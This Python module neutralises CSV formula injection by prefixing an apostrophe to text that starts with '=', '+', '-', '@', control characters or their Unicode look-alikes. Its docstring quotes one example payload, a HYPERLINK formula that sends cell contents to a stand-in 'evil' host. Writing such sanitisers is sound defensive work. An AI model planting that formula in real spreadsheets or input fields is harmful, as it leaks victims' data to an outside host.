"""Defuse text that a spreadsheet would run as a formula ("CSV injection").

A participant can type ``=HYPERLINK("http://evil/?"&A1,"click")`` into a feedback
box; opened in Excel or LibreOffice, a CSV cell holding it becomes a live formula.
The OWASP advice is to prefix such text with an apostrophe, which spreadsheets read
as "this is text" (Excel hides it when typed; in a CSV it stays visible, which is the
price of safety).

What counts as dangerous here (`TRIGGERS`): a text whose first character, *after any
leading whitespace*, is one of

* ``=`` ``+`` ``-`` ``@`` (OWASP's list),
* the tab and carriage return (OWASP), and also line feed and the other control
  characters that separators-sniffing importers treat as cell boundaries,
* ``−`` U+2212 MINUS SIGN, which LibreOffice accepts as a minus in formulas,
* the full-width ``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20) and the small forms
  ``﹦ ﹢ ﹣`` (U+FE66, U+FE62, U+FE63), which East Asian input methods produce and
  some spreadsheet versions normalise to their ASCII twins.

Leading whitespace is looked through because importers trim it ("Trim spaces" in
LibreOffice's CSV dialog), turning ``"  =1"`` into a formula. The apostrophe goes in
front of the whole text, so nothing the participant wrote is lost.

Only text is neutralized. Numbers are written as numbers by the renderers and never
come through here: ``-1.5`` stays the number -1.5 (a CSV cell ``-1.5`` is a number to
every spreadsheet, not a formula). Passing anything but a `str` is a programming
error and raises `TypeError`, so a float cannot be stringified and then "defused".
"""

from __future__ import annotations

TRIGGERS = frozenset(
    "=+-@"  # OWASP
    "\t\r\n\v\f"  # tab, CR (OWASP) and the other line/cell separators
    "\u2212"  # − MINUS SIGN
    "\uff1d\uff0b\uff0d\uff20"  # ＝ ＋ － ＠ full width
    "\ufe66\ufe62\ufe63"  # ﹦ ﹢ ﹣ small forms
)
"""First characters (after leading whitespace) that make a text cell dangerous."""

QUOTE = "'"


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (see the module docstring)."""
    if not isinstance(text, str):
        raise TypeError(f"only text is neutralized, not {type(text).__name__}")
    for char in text:
        if char in TRIGGERS:
            return True
        if not char.isspace():
            return False
    return False


def neutralize(text: str) -> str:
    """`text` with a leading apostrophe when a spreadsheet could run it as a formula."""
    return QUOTE + text if is_dangerous(text) else text
